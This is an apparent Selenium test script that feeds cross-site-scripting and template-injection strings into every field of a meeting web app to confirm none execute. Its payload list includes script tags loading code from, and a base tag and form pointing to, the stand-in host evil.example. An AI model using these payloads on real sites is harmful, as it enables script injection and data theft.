#!/usr/bin/env python3
"""Hostile words in every field, on every page, with script and without: markup.py PROGRAM FOLDER

The vectors are ../shared/vectors/blns and a few of our own. No dialogue opens, no element comes in that nobody made, no
script runs, and nothing is refused by a policy that markup would have to reach first.
"""

import json
import pathlib
import re
import sys
import time

from selenium.webdriver.common.by import By

import hands
from page import Page, report
from server import Server

OWN = ["</textarea><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'onload='x",
       "<img src=x onerror=\"document.title=1\"> </script>\u202e", "javascript:alert(1)",
       "</title><svg onload=alert(1)>",
       "{{7*7}}${7*7}<%= 7 %>", "<details open ontoggle=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
       "</script><script src=//evil.example/x.js></script>", "<base href=//evil.example>",
       "<form action=//evil.example><button>x", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0>"]
ENTER = """
const form = document.querySelector(arguments[0]);
for (const [name, value] of Object.entries(arguments[1])) {
  const control = form.elements[name];
  control.value = value;
  control.dispatchEvent(new Event("input", { bubbles: true }));
}
form.requestSubmit(form.querySelector("button.main, button"));
"""


def vectors():
    file = pathlib.Path(__file__).resolve().parents[3] / "shared/vectors/blns/blns.json"
    known = json.loads(file.read_text(encoding="utf-8")) if file.exists() else []
    if not known:
        print("Left out: the vectors of others, since they do not stand beside the project.")
    return OWN + [each for each in known if each.strip()]


def parts(all_words, size):
    """The vectors as few texts, each of at most so many letters."""
    text = ""
    for each in all_words:
        each = each.replace("\n", " ")
        if text and len(text) + len(each) > size:
            yield text
            text = ""
        text = f"{text}\n{each}" if text else each
    yield text


class Markup:
    def __init__(self, program, folder):
        self.server = Server(program, "--dialogue", "short", limits="off")
        self.lead = Page("words-lead", 1000, 800, folder)
        self.phone = Page("words-phone", 360, 740, folder, telephone=True)
        self.wall = Page("words-wall", 1600, 900, folder)
        self.plain = Page("words-plain", 360, 740, folder, telephone=True)
        self.pages = [self.lead, self.phone, self.wall, self.plain]
        self.vectors = vectors()
        self.texts = list(parts(self.vectors, 1500))
        self.used = self.grouped = 0

    def at_the_door(self):
        """Every vector as a name, in both kinds of page; most are refused, and the page says so."""
        for selector, link in (("form", f"/r/{self.code}"), ("form", f"/r/{self.code}/plain")):
            page = self.phone if "plain" not in link else self.plain
            page.go(self.server.link + link, "form")
            sharp = [each for each in self.vectors if any(mark in each for mark in "<>\"'&:{")]
            for each in sharp:
                page.ask(ENTER, selector, {"name": each[:32], "agency": each[:64], "role": each[:64]})
                time.sleep(0.05)
                self.used += 3
                if page.all(".who"):
                    page.look("w01", axe=False)
                    page.press("Leave the meeting")
                    page.wait(lambda p=page: p.all("main a") or p.all("form"), "the door")
                    page.go(self.server.link + link, "form")
                elif self.used % 60 == 0:
                    page.look("w00", axe=False)
            page.look("w00")

    def enter(self):
        self.code = hands.begin(self.lead, self.server)
        hands.watch(self.wall, self.server, self.code)
        self.at_the_door()
        hands.come(self.phone, self.server, self.code, "Sam")
        self.plain.go(f"{self.server.link}/r/{self.code}/plain", "form")
        self.plain.fill("form", name="Bo")
        self.plain.press("Join")
        self.plain.wait(lambda: self.plain.text(".who"), "the room by forms")
        # What people bring along stands in lists and minutes.
        for number, each in enumerate(self.vectors):
            if number % 4 == 0 or number < len(OWN):
                one = each.replace("\n", " ").replace("\r", " ")
                self.server.knock(f"/join {self.code} as P{number} of {one[:60]} role {one[:60]}")
                self.used += 2
            if len(self.server.kept) > 100:
                break
        # The page by forms of somebody who leads as well.
        number = re.search(r"member (\d+)", self.plain.text(".who")).group(1)
        self.lead.wait(lambda: self.lead.driver.find_elements(By.CSS_SELECTOR, f".leading option[value='{number}']"),
                       "the names of all")
        self.lead.unfold("Person")
        self.lead.ask("document.querySelector('.leading select').value = arguments[0]", number)
        self.lead.press("Make co-facilitator")

    def speak(self):
        """A word to the room, one for the lead alone, one to be parked, an action that somebody proposes."""
        for text in self.texts:
            for way in ("say", "private", "park", "action"):
                self.phone.ask("""
                    const form = document.querySelector(".speak form");
                    form.querySelector("textarea").value = arguments[1];
                    form.querySelector("select").value = arguments[0];
                    form.requestSubmit();""", way, text[:1900])
                self.plain.ask("""
                    const form = document.querySelector(".speak form");
                    form.elements.words.value = arguments[1];
                    form.elements.prefix.value = "/" + arguments[0];
                    form.requestSubmit(form.querySelector("button"));""", way, text[:1900])
                self.used += 2 * text.count("\n") + 2
                time.sleep(0.15)

    def answers(self, step):
        """What is asked is answered in hostile words, and kept even where it may identify somebody."""
        for number, page in enumerate((self.phone, self.plain)):
            if page is self.plain:
                page.go(f"{self.server.link}/r/{self.code}/plain")
            form = ".asked form:has([name=answer])"
            if page.all(f"{form}"):
                text = self.texts[(step + number) % len(self.texts)]
                page.ask(ENTER, form, {"answer": text})
                self.used += text.count("\n") + 1
                time.sleep(0.7)
                page.look(f"w{step:02}", axe=False)
                page.press("Keep it as it is")
                time.sleep(0.4)
            else:
                hands.answer(page, "x")

    def name_groups(self):
        """Every vector as what a group is called, on the page and by forms; the wall and a telephone show it."""
        names = [each.replace("\n", " ").strip()[:80] for each in self.vectors]
        for number, name in enumerate(each for each in names if each):
            if number % 2:
                self.plain.go(f"{self.server.link}/r/{self.code}/plain", ".who")
                self.plain.unfold("Group similar points")
                self.plain.ask("document.querySelectorAll('[name=point]').forEach((each) => each.checked = true)")
                self.plain.ask(ENTER, "#groups form", {"group": name})
            else:
                self.lead.ask("""
                    const [form] = document.querySelectorAll(".leading details form");
                    form.querySelectorAll("[type=checkbox]").forEach((each) => each.checked = true);
                    form.querySelector("[type=text]").value = arguments[0];
                    form.requestSubmit();""", name)
            time.sleep(0.15)
            # A name that may tell of somebody is asked about.
            for page in (self.lead, self.plain):
                page.press("Keep it as it is", ".asked")
            made = ".leading details ul button"
            if not self.lead.wait_for(lambda: self.lead.driver.find_elements(By.CSS_SELECTOR, made)):
                continue
            self.used, self.grouped = self.used + 1, self.grouped + 1
            self.wall.wait(lambda: f"Group {self.grouped}," in self.wall.text(), "a group on the wall")
            if number % 12 < 2 or number < len(OWN):
                self.plain.go(f"{self.server.link}/r/{self.code}/plain", ".who")
                for page in self.pages:
                    page.look("w70", axe=False)
            self.lead.ask("document.querySelector(arguments[0]).click()", made)
            self.lead.wait(lambda: not self.lead.driver.find_elements(By.CSS_SELECTOR, made), "the group to go")

    def look_up(self):
        for thing in ("Who is here", "How far we are", "The plan", "The minutes", "What was answered", "Help"):
            for page in (self.phone, self.lead):
                if not page.all(".look .acts button"):
                    page.unfold("Look something up")
                if page.press(thing, ".look"):
                    time.sleep(0.5)
                    page.look("w80", axe=False)
            self.plain.unfold("Look something up")
            if self.plain.press(thing, ".look"):
                time.sleep(0.3)
                self.plain.look("w80", axe=False)

    def can_group(self):
        return any(each.text.strip() == "Group similar points" for each in self.lead.all(".leading summary"))

    def press_next(self):
        return hands.go_on(self.lead, lambda: self.lead.press("Next", ".leading"))

    def run(self):
        try:
            self.enter()
            plan = hands.Plan()
            hostile = iter(self.vectors * 3)
            for step in range(2, 60):
                print(f"{step:3} {self.lead.text('.where')}: {self.lead.question()[:90]}", flush=True)
                for page in self.pages:
                    page.look(f"w{step:02}", axe=False)
                if not self.lead.all("[data-act=next]") and not self.lead.all(".asked form"):
                    break
                if plan.is_here(self.lead):
                    def cell(page, text):
                        words = next(hostile).replace("\n", " ")
                        self.used += 1
                        return hands.answer(page, text if plan.cell in (2, 5) else f"{text} {words[:80]}")
                    if not plan.step(self.lead, cell, lambda p: p.press("I have finished", ".asked"), self.press_next):
                        break
                    continue
                self.answers(step)
                if not self.grouped and self.can_group():
                    self.name_groups()
                if step == 4:
                    self.speak()
                if not self.press_next():
                    break
            self.look_up()
            for page in self.pages:
                page.look("w90")
        finally:
            self.server.stop()
            print(f"{self.used} hostile words given, {self.grouped} of them to groups, of {len(self.vectors)} vectors")
            if not self.grouped:
                self.lead.find("no group was made")
            status = report(self.pages, "Hostile words")
        return status


if __name__ == "__main__":
    sys.exit(Markup(*sys.argv[1:3]).run())
